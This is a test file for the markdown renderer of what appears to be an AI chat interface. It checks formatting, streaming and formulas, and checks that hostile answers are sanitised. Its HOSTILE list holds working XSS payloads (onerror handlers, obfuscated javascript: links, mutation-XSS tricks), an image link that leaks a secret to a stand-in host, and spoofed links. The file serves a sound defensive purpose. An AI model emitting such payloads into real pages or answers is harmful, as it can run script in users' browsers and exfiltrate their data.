import { beforeEach, describe, expect, it, vi } from "vitest";
import { ScriptedModel } from "../harness/scripted-model";
import { assetsFrom } from "../ui/assets";
import { english } from "../ui/i18n";
import { MarkdownView } from "../ui/markdown";
import { isDataImage, safeUrl } from "../ui/sanitize";

const words = english;
let root: HTMLElement;

beforeEach(() => {
  root = document.createElement("div");
  document.body.replaceChildren(root);
});

function show(text: string): HTMLElement {
  const fresh = document.createElement("div");
  document.body.replaceChildren(fresh);
  new MarkdownView(fresh, words).update(text, true);
  return fresh;
}

describe("markdown", () => {
  it("draws tables, lists, tasks and code", async () => {
    assetsFrom(new ScriptedModel(), import.meta.url.replace(/tests\/[^/]*$/, "ui/"));
    const el = show(
      "# T\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n```python\nx = 1\n```\n",
    );
    expect(el.querySelector("h1")?.textContent).toBe("T");
    expect(el.querySelector("td[align=right]")?.textContent).toBe("2");
    expect(
      [...el.querySelectorAll("[data-task]")].map((task) => task.getAttribute("data-task")),
    ).toEqual(["done", "open"]);
    expect(el.querySelector(".asnb-code-lang")?.textContent).toBe("python");
    expect(el.querySelector(".asnb-code code")?.textContent).toBe("x = 1");
    await vi.waitFor(() =>
      expect(el.querySelector(".asnb-code .hljs-number")?.textContent).toBe("1"),
    );
    expect(el.querySelector("input")).toBeNull();
  });

  it("is the same drawn in pieces as at once", () => {
    vi.useFakeTimers();
    const text = "One *two*\n\n```js\nlet a = 1;\n```\n\n- x\n- y\n\n| a |\n| - |\n| 1 |\n\nend";
    const view = new MarkdownView(root, words);
    for (let end = 1; end < text.length; end++) view.update(text.slice(0, end), false);
    view.update(text, true);
    expect(root.textContent).toBe(show(text).textContent);
    vi.useRealTimers();
  });

  it("does not touch finished blocks again", () => {
    const view = new MarkdownView(root, words);
    view.update("one\n\ntwo\n\nthr", false);
    const first = root.querySelector(".asnb-block");
    view.update("one\n\ntwo\n\nthree\n\nfour", true);
    expect(root.querySelector(".asnb-block")).toBe(first);
    expect(root.textContent).toContain("four");
  });

  it("starts again when the text was replaced", () => {
    const view = new MarkdownView(root, words);
    view.update("one\n\ntwo", false);
    view.update("other", true);
    expect(root.textContent?.trim()).toBe("other");
  });
});

// What must never come through, whatever stands in the answer.
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://evil.example/a.png?q=secret)",
  '<img src="https://evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 1x" src="data:image/svg+xml,<svg onload=alert(1)>">',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](java\nscript:alert(1))",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a> <a href="/logout">y</a> <a href="//evil.example">z</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=a><button formaction=javascript:alert(1)>go</button></form>',
  '<div style="background:url(https://evil.example)" onclick="alert(1)" class="jp-Dialog" id="main">x</div>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
  "<svg><script>alert(1)</script></svg><svg onload=alert(1)></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  "<object data=https://evil.example></object><embed src=https://evil.example><base href=https://evil.example>",
  "<video src=https://evil.example autoplay></video><audio src=https://evil.example></audio>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  '<table background="https://evil.example/x.png"><tr><td background=x>1</td></tr></table>',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```<img src=x onerror=alert(1)>\ncode\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<a href=https://ok.example target=_self onclick=alert(1) ping=https://evil.example>x</a>",
  "<x-evil onclick=alert(1)>custom</x-evil>",
];
const REMOTE = /^(?:https?:)?\/\//i;

describe("hostile answers", () => {
  it.each(HOSTILE)("%s", (text) => {
    const el = show(text);
    for (const node of el.querySelectorAll("*")) {
      const tag = node.tagName.toLowerCase();
      expect([
        "script",
        "iframe",
        "form",
        "input",
        "style",
        "svg",
        "object",
        "embed",
        "base",
        "link",
        "meta",
        "video",
        "audio",
        "template",
        "math",
      ]).not.toContain(tag);
      if (tag === "button") expect(node.textContent).toBe("Copy");
      for (const { name, value } of node.attributes) {
        expect(name).not.toMatch(/^on|^style$|^srcset$|^background$|^formaction$|^ping$|^id$/);
        if (name === "src") expect(value).toMatch(/^data:image\//);
        if (name === "href") expect(value).toMatch(/^(?:https?:|mailto:)/);
        if (name === "class") expect(value).toMatch(/^(?:asnb|hljs)[\w -]*$/);
        if (name !== "href" && name !== "title") expect(value).not.toMatch(REMOTE);
      }
      if (tag === "a") {
        expect(node.getAttribute("target")).toBe("_blank");
        expect(node.getAttribute("rel")).toContain("noopener noreferrer");
      }
    }
  });

  it("name what was blocked", () => {
    expect(show("a <script>x</script> b").textContent).toContain("[blocked script]");
    expect(show("[click](javascript:alert(1))").textContent).toContain("click [blocked link]");
    const image = show("![plan](https://evil.example/a.png?q=1)");
    expect(image.textContent).toContain("Image blocked: evil.example/a.png");
    expect(image.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/a.png?q=1");
  });

  it("show where links lead", () => {
    expect(show("[https://bank.example](https://evil.example/x)").textContent).toContain(
      "(evil.example)",
    );
    expect(show("[bank.example@evil](https://bank.example@evil.example/)").textContent).toContain(
      "(evil.example)",
    );
    expect(show("<https://ok.example/a>").textContent?.trim()).toBe("https://ok.example/a");
    expect(show("[аpple](https://аpple.com)").textContent).toContain("(xn--pple-43d.com)");
  });

  it("keep words that only look like tags", () => {
    expect(show("Use Vec<String> and <YourName> here").textContent?.trim()).toBe(
      "Use Vec<String> and <YourName> here",
    );
  });

  it("allow small images that are in the text itself", () => {
    expect(isDataImage("data:image/png;base64,AAAA")).toBe(true);
    expect(isDataImage("data:image/svg+xml,<svg/>")).toBe(false);
    expect(isDataImage("data:text/html,x")).toBe(false);
    expect(isDataImage(`data:image/png;base64,${"A".repeat(5_000_000)}`)).toBe(false);
    expect(safeUrl(" javascript:alert(1)")).toBeNull();
    expect(safeUrl("java\tscript:alert(1)")).toBeNull();
    expect(safeUrl("https://ok.example")?.host).toBe("ok.example");
  });
});

describe("formulas", () => {
  const maths = (text: string): string[] => {
    const root = document.createElement("div");
    const set: string[] = [];
    new MarkdownView(root, words, (node) => {
      for (const found of node.querySelectorAll("[data-math]")) set.push(found.textContent ?? "");
    }).update(text, true);
    return set;
  };

  it("are kept as they are written and given to the typesetter", () => {
    expect(maths("So $a_1 * b_2 * c$ and \\(x<y\\), then\n\n$$\n\\sum_i x_i\n$$\n\nend")).toEqual([
      "$a_1 * b_2 * c$",
      "\\(x<y\\)",
      "$$\n\\sum_i x_i\n$$",
    ]);
    expect(maths("a $x^2$, b \\[ y \\] c")).toContain("$x^2$");
    expect(maths("\\[ y \\]\n")).toEqual(["\\[ y \\]"]);
  });

  it("are not money, code or half a dollar", () => {
    expect(
      maths("It is $5 and $6, or $5-$10. A $ alone. `$x$`\n\n    $y$\n\n```\n$z$\n```"),
    ).toEqual([]);
    expect(maths("costs \\$3 and \\$4")).toEqual([]);
  });

  it("do not let HTML through", () => {
    const root = document.createElement("div");
    new MarkdownView(root, words).update("$<img src=x onerror=alert(1)>$", true);
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent).toContain("<img");
  });
});
